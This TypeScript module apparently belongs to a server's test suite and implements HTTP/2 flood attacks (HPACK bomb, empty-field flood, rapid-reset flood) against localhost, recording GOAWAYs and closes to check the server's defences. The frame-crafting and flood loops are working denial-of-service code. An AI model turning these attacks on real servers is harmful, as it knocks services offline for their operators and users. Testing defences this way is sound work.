/**
 * HTTP/2 flood attacks over raw frames (RFC 9113 §4.1): each connection sends the preface and an
 * empty SETTINGS, acknowledges the server's SETTINGS (so no SETTINGS_TIMEOUT ends it), then
 * writes its attack as fast as the socket takes it, and notes GOAWAY frames and the close. When
 * the server ends a connection the attacker opens the next, until the time is up. A patient
 * attacker waits up to a second after a GOAWAY for the server's close, as a client would; a hasty
 * one drops the connection on the GOAWAY and opens the next at once.
 */
import { connect, type Socket } from "node:net";
import { FIRST_DYNAMIC, getRoot, indexed, literalIndexed, literalNew } from "./hpack.ts";

/** The HTTP/2 attacks. */
export type H2AttackKind = "hpack-bomb" | "empty-fields" | "reset-flood";

/** What an attack saw. */
export interface AttackReport {
  kind: string;
  /** Connections opened. */
  connections: number;
  /** Requests (HEADERS) or, for slowloris, bytes sent. */
  sent: number;
  /** GOAWAY frames received, by error code name. */
  goaways: Record<string, number>;
  /** ms from the attack's start to the first GOAWAY, or null. */
  firstGoawayMs: number | null;
  /** Requests (streams) sent on the first connection before its GOAWAY arrived (most still unread by the server). */
  sentBeforeFirstGoaway: number | null;
  /** The first GOAWAY's last stream id (§6.8): the server processed streams up to it, (id + 1) / 2 requests. */
  firstGoawayLastStream: number | null;
  /** GOAWAYs with last stream 0: connections the server refused before any stream (the flood penalty). */
  refusedAtOnce?: number;
  /** Connections the server closed. */
  closedByServer: number;
  /** ms from the start to the first close by the server, or null. */
  firstCloseMs: number | null;
  /** Connections that ended in a TCP reset (ECONNRESET) rather than a close: a GOAWAY may be lost with it. */
  tcpResets: number;
  /** Anything else worth a line. */
  notes: string[];
}

/**
 * The attacker's source address. The victim connects from 127.0.0.1, so the server's per-address
 * defences (`floodPenalty`) tell the two apart as they would two clients on the internet.
 */
export const ATTACKER_ADDRESS = "127.0.0.2";

const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 0x1, RST_STREAM = 0x3, SETTINGS = 0x4, GOAWAY = 0x7;
const END_STREAM = 0x1, END_HEADERS = 0x4, ACK = 0x1;
const CANCEL = 0x8;
const CODES: Record<number, string> = {
  0: "NO_ERROR",
  1: "PROTOCOL_ERROR",
  2: "INTERNAL_ERROR",
  3: "FLOW_CONTROL_ERROR",
  7: "REFUSED_STREAM",
  9: "COMPRESSION_ERROR",
  11: "ENHANCE_YOUR_CALM",
};

/** One frame: the 9-octet header (§4.1) and the payload. */
export function frame(type: number, flags: number, stream: number, payload: ArrayLike<number>): Uint8Array {
  const out = new Uint8Array(9 + payload.length);
  out[0] = (payload.length >>> 16) & 0xff;
  out[1] = (payload.length >>> 8) & 0xff;
  out[2] = payload.length & 0xff;
  out[3] = type;
  out[4] = flags;
  new DataView(out.buffer).setUint32(5, stream & 0x7fffffff);
  out.set(payload, 9);
  return out;
}

function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

const blocks: Map<string, Uint8Array> = new Map();

/** The field block of one attack request (built once per kind and position). */
function attackBlock(kind: H2AttackKind, firstOnConnection: boolean): Uint8Array {
  const key = `${kind} ${firstOnConnection}`;
  let block = blocks.get(key);
  if (block === undefined) blocks.set(key, block = buildBlock(kind, firstOnConnection));
  return block;
}

/** What makes each request an attack. */
function buildBlock(kind: H2AttackKind, firstOnConnection: boolean): Uint8Array {
  const root = getRoot("127.0.0.1");
  if (kind === "hpack-bomb") {
    // ~4 KB entry (4038 octets with its 32 of overhead: fits the 4096-octet table), then a frame's
    // worth of one-byte references to it: ~16 000 × 4 KB ≈ 64 MB of headers from 16 KB of wire.
    const seed = firstOnConnection ? literalIndexed("x-bomb", "a".repeat(4000)) : [];
    const room = 16384 - root.length - seed.length;
    return new Uint8Array([...root, ...seed, ...Array<number>(room).fill(indexed(FIRST_DYNAMIC)[0]!)]);
  }
  if (kind === "empty-fields") {
    // 3 000 fields `x:` with an empty value, 4 octets each: 12 KB of wire, 99 KB counted (§6.5.2).
    const field = literalNew("x", "");
    return new Uint8Array([...root, ...Array.from({ length: 3000 }, () => field).flat()]);
  }
  return new Uint8Array(root);
}

/** A report with nothing counted yet; every attack fills one in. */
export function emptyReport(kind: string): AttackReport {
  return {
    kind,
    connections: 0,
    sent: 0,
    goaways: {},
    firstGoawayMs: null,
    sentBeforeFirstGoaway: null,
    firstGoawayLastStream: null,
    refusedAtOnce: 0,
    closedByServer: 0,
    firstCloseMs: null,
    tcpResets: 0,
    notes: [],
  };
}

/** Run `kind` against 127.0.0.1:`port` for `ms`, reconnecting whenever the server ends a connection. */
export async function h2Attack(kind: H2AttackKind, port: number, ms: number, hasty = false): Promise<AttackReport> {
  const report = emptyReport(kind);
  const started = performance.now();
  const deadline = started + ms;
  while (performance.now() < deadline) {
    await oneConnection(kind, port, deadline, started, report, hasty);
  }
  return report;
}

function oneConnection(
  kind: H2AttackKind,
  port: number,
  deadline: number,
  started: number,
  report: AttackReport,
  hasty: boolean,
): Promise<void> {
  return new Promise((resolve) => {
    report.connections++;
    const first = report.connections === 1;
    let sentHere = 0;
    let closed = false;
    let goaway = false;
    let ours = false; // the attacker, not the server, ended it
    let pending: Uint8Array = new Uint8Array(0);
    const socket: Socket = connect({ host: "127.0.0.1", port, localAddress: ATTACKER_ADDRESS, noDelay: true });
    const end = (): void => {
      ours = true;
      socket.destroy();
    };
    const timer = setTimeout(end, Math.max(0, deadline - performance.now()));
    socket.on("error", (error: NodeJS.ErrnoException) => {
      if (error.code === "ECONNRESET" && !ours) report.tcpResets++;
    });
    socket.on("close", () => {
      closed = true;
      clearTimeout(timer);
      if (!ours) {
        report.closedByServer++;
        report.firstCloseMs ??= Math.round(performance.now() - started);
      }
      resolve();
    });
    socket.on("data", (chunk: Uint8Array) => {
      pending = pending.length === 0 ? chunk : concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = (pending[0]! << 16) | (pending[1]! << 8) | pending[2]!;
        if (pending.length < 9 + length) break;
        const type = pending[3]!, flags = pending[4]!;
        const payload = pending.subarray(9, 9 + length);
        if (type === SETTINGS && (flags & ACK) === 0) socket.write(frame(SETTINGS, ACK, 0, []));
        if (type === GOAWAY && length >= 8) {
          const view = new DataView(payload.buffer, payload.byteOffset);
          const code = view.getUint32(4);
          const name = CODES[code] ?? `code ${code}`;
          report.goaways[name] = (report.goaways[name] ?? 0) + 1;
          if ((view.getUint32(0) & 0x7fffffff) === 0) report.refusedAtOnce = (report.refusedAtOnce ?? 0) + 1;
          if (report.firstGoawayMs === null) {
            report.firstGoawayMs = Math.round(performance.now() - started);
            if (first) report.sentBeforeFirstGoaway = sentHere;
            report.firstGoawayLastStream = view.getUint32(0) & 0x7fffffff;
          }
          goaway = true;
          if (hasty) end();
        }
        pending = pending.subarray(9 + length);
      }
    });
    socket.once("connect", async () => {
      socket.write(concat([PREFACE, frame(SETTINGS, 0, 0, [])]));
      let stream = 1;
      // Write until the server says GOAWAY or closes; yield to the event loop every batch so its
      // frames are read, and wait for drain so the attacker's own memory stays flat.
      while (!closed && !goaway && performance.now() < deadline && stream < 0x7fffff00) {
        const batch: Uint8Array[] = [];
        const perBatch = kind === "reset-flood" ? 100 : 4;
        for (let i = 0; i < perBatch; i++, stream += 2) {
          const block = attackBlock(kind, stream === 1);
          if (kind === "reset-flood") {
            batch.push(frame(HEADERS, END_STREAM | END_HEADERS, stream, block));
            batch.push(frame(RST_STREAM, 0, stream, [0, 0, 0, CANCEL]));
          } else {
            batch.push(frame(HEADERS, END_STREAM | END_HEADERS, stream, block));
          }
          sentHere++;
          report.sent++;
        }
        if (!socket.write(concat(batch))) {
          await new Promise<void>((r) => {
            socket.once("drain", r);
            socket.once("close", r);
          });
        } else await new Promise<void>((r) => setImmediate(r));
      }
      // After a GOAWAY the server closes once its last streams are done; give it a moment, then go.
      if (!closed) setTimeout(end, 1000);
    });
  });
}
